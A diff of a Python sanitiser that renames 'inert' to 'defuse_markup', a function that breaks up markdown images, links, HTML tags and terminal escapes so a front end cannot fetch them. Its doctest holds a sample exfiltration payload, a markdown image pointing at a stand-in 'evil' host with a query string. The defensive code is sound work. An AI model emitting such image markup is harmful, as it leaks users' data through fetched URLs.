@@ -83,13 +83,13 @@ _ACTIVE: Final = re.compile(
 )
 
 
-def inert(text: str) -> str:
+def defuse_markup(text: str) -> str:
     r"""Break up whatever a page, front end or terminal would render as an image, link or element.
 
     A front end would fetch an image that a passage names, and leak the data in its address. A
     visible space in the markup prevents that.
 
-    >>> print(inert("![x](http://evil/?q=1) <img> \x1b[2J"))
+    >>> print(defuse_markup("![x](http://evil/?q=1) <img> \x1b[2J"))
     ! [x] (http:// evil/?q=1) < img> \x1b[2J
     """
     return _ACTIVE.sub(" ", visible(text))
